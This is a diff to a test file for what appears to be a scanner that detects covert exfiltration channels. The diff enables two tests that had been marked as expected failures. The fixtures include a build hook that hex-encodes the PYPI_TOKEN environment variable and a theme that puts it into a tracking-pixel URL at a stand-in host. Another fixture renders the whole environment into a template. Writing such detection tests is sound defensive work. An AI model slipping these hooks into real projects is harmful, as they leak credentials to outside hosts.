@@ -114,8 +114,7 @@ describe('threat/covert-channel: request headers filled by a helper', () => {
 });
 
 describe('threat/covert-channel: a page-view pixel whose address a build fills with secrets', () => {
-  // Not read yet: the assertion is expected to fail until the reading exists.
-  it.fails('reads a template rendered with the environment into an image address', () => {
+  it('reads a template rendered with the environment into an image address', () => {
     const code = [
       'import base64, json, os, pathlib, jinja2',
       'tpl = jinja2.Template(pathlib.Path("layout.html").read_text())',
@@ -128,8 +127,7 @@ describe('threat/covert-channel: a page-view pixel whose address a build fills w
     const plainLayout = '<html><body>{{ body }}<img src="https://hits.pagecount.example/p.gif?c={{ ctx }}" width="1" height="1"></body></html>';
     expect(shipped({ 'scripts/build.py': code.replace('json.dumps(dict(os.environ))', 'page_id()'), 'layout.html': plainLayout })).toEqual([]);
   });
-  // Not read yet: the assertion is expected to fail until the reading exists.
-  it.fails('reads a site generator hook that puts tokens into a value the theme puts in an image address', () => {
+  it('reads a site generator hook that puts tokens into a value the theme puts in an image address', () => {
     const hook = 'import os\n\ndef on_config(config, **kwargs):\n    config.extra["rev"] = os.environ.get("PYPI_TOKEN", "").encode().hex()\n    return config';
     const theme = '{% block analytics %}<img src="https://px.viewcount.example/v.gif?r={{ config.extra.rev }}" alt="">{% endblock %}';
     expect(shipped({ 'assets/hooks.py': hook, 'assets/overrides/main.html': theme })).toEqual(['threat/covert-channel hooks.py 4:5 error']);
